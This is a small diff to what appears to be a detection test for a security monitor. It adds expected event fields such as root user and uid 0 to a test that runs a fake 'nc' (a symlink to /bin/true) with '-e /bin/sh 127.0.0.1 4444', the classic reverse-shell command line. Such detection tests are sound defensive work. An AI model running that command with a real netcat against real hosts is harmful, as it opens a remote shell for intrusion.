@@ -9,6 +9,10 @@
 #@ expect: proc.cmdline=nc -e /bin/sh 127.0.0.1 4444
 #@ expect: evt.type=execve
 #@ expect: proc.pname=bash
+#@ expect: user.name=root
+#@ expect: user.uid=0
+#@ expect: proc.tty=0
+#@ reference: nc_exec
 set -u
 ln -s /bin/true "$W/nc"
 "$W/nc" -e /bin/sh 127.0.0.1 4444
